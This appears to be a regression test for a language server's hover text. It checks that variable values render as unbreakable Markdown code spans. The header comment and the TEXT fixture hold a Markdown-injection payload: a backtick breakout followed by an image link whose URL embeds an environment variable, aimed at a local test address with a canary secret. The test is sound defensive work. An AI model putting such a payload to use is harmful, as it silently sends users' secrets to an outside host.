/**
 * A hover is Markdown the editor renders. A repository's variable whose value opens with a backtick
 * ended the hover's code span early, and the rest rendered as Markdown: an image whose address holds
 * a `$processEnv` value (`@v = \` ![a](https://host/?q={{$processEnv GRAPHREQ_VAR_NOTE}})`), which
 * the editor fetches as soon as the hover shows, sent that value to a host nobody chose. Values are
 * now shown in code spans nothing inside can end (core/features/markdownText.ts). (The variable's
 * name says nothing secret: a secret's value is not shown at all, core/features/secretMask.ts.)
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, describe, it } from 'node:test';
import { pathToFileURL } from 'node:url';
import { codeSpan } from '../../server/src/core/features/markdownText';
import { LspClient } from './lspClient';

const SECRET = 'CANARYsecret64e1';
const TEXT = '@v = ` ![a](http://127.0.0.1:9/x?q={{$processEnv GRAPHREQ_VAR_NOTE}}) [c](http://127.0.0.1:9/y) ``\nPOST /v23.0/act_1/adsets\nX-A: {{v}}\n';
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'graphreq-hover-md-'));
after(() => fs.rmSync(dir, { recursive: true, force: true }));

/**
 * The text of the code span `markdown` ends with, read as CommonMark reads one (a run of backticks
 * opens it; only a run of the same length closes it); undefined when it does not end with one whole.
 */
function trailingCodeSpan(markdown: string): string | undefined {
  for (let i = 0; i < markdown.length; i++) {
    if (markdown[i] !== '`' || markdown[i - 1] === '`') continue;
    let n = 0;
    while (markdown[i + n] === '`') n++;
    const rest = markdown.slice(i + n);
    const close = new RegExp(`(?<!\`)\`{${n}}(?!\`)`).exec(rest);
    if (!close) continue; // an unmatched run is literal text
    if (i + n + close.index + n === markdown.length) return rest.slice(0, close.index).replace(/^ (.*) $/, '$1');
    i += n + close.index + n - 1;
  }
  return undefined;
}

describe('hover Markdown holds values as text', () => {
  it('codeSpan: any backticks inside stay inside', () => {
    for (const text of ['plain', '` ![a](http://x/y)', 'a `` b', '```', '`', 'x`']) assert.equal(trailingCodeSpan(`= ${codeSpan(text)}`), text, text);
    assert.equal(codeSpan('plain'), '`plain`');
  });

  it("the language server's hover of a variable whose value breaks out of single backticks", async () => {
    const file = path.join(dir, 'req.graphreq');
    fs.writeFileSync(file, TEXT);
    const uri = pathToFileURL(file).href;
    const client = new LspClient(undefined, { GRAPHREQ_VAR_NOTE: SECRET });
    try {
      await client.initialize(pathToFileURL(dir).href);
      await client.open(uri, TEXT);
      const hover = await client.request<{ contents: { value: string } }>('textDocument/hover', { textDocument: { uri }, position: { line: 2, character: 7 } });
      const value = hover.contents.value;
      assert.match(value, /^\*\*\{\{v\}\}\*\* \(file variable\) = /);
      assert.equal(trailingCodeSpan(value), `\` ![a](http://127.0.0.1:9/x?q=${SECRET}) [c](http://127.0.0.1:9/y) \`\``, value);
    } finally {
      assert.equal(await client.shutdown(), 0);
    }
  });
});
